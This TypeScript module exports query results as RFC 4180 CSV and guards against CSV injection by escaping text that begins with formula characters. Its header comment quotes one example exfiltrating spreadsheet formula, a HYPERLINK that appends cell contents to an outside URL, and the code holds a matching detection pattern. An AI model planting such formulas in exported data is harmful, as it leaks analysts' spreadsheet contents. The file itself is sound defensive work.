/**
 * A query result as CSV (RFC 4180: CRLF lines, fields quoted when they hold a comma, quote or line break), NULL as
 * an empty field and an empty string as "" — as Athena writes its result files, so the two stay apart.
 *
 * One difference, for the spreadsheet the file is opened in: a text value that starts with =, +, -, @, a tab or a
 * carriage return gets a leading ' (OWASP's CSV injection rule), which spreadsheets read as "this is text". Event
 * data comes from producers; `=HYPERLINK("https://…?"&A2, "Open")` in a title would otherwise run as a formula in the
 * analyst's spreadsheet and could send other cells away. Numbers, decimals and dates are written as they are.
 */
import type { LakeApi } from './api';
import type { Cell, ResultColumn } from './api-types';
import { cellText } from './format';

/** Column types whose values are text a producer wrote. */
const TEXT_TYPE = /^(varchar|char|string|json)\b/i;
const FORMULA_START = /^[=+\-@\t\r]/;

function field(cell: Cell, type = ''): string {
  if (cell === null) return '';
  let text = cellText(cell, type);
  if (typeof cell === 'string' && TEXT_TYPE.test(type) && FORMULA_START.test(text)) text = `'${text}`;
  return text === '' || /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

export function toCsv(columns: ResultColumn[], rows: Cell[][]): string {
  const lines = [columns.map((c) => field(c.name)).join(',')];
  for (const row of rows) lines.push(row.map((cell, i) => field(cell, columns[i]?.type)).join(','));
  return lines.join('\r\n') + '\r\n';
}

/** The most rows a download reads (a browser tab holds them all in memory). */
export const CSV_MAX_ROWS = 1_000_000;

/**
 * The result as CSV, read page by page up to `maxRows`; `cut`: more rows followed (the file holds the first `rows`
 * only: the page says so). No DOM: tests call it.
 */
export async function readCsv(
  api: Pick<LakeApi, 'results'>,
  queryId: string,
  columns: ResultColumn[],
  progress: (rows: number) => void,
  maxRows = CSV_MAX_ROWS,
): Promise<{ csv: string; rows: number; cut: boolean }> {
  const rows: Cell[][] = [];
  let token: string | null | undefined;
  do {
    const page = await api.results(queryId, Math.min(1000, maxRows - rows.length), token);
    rows.push(...page.rows.slice(0, maxRows - rows.length));
    progress(rows.length);
    token = page.nextToken;
  } while (token && rows.length < maxRows);
  return { csv: toCsv(columns, rows), rows: rows.length, cut: Boolean(token) };
}
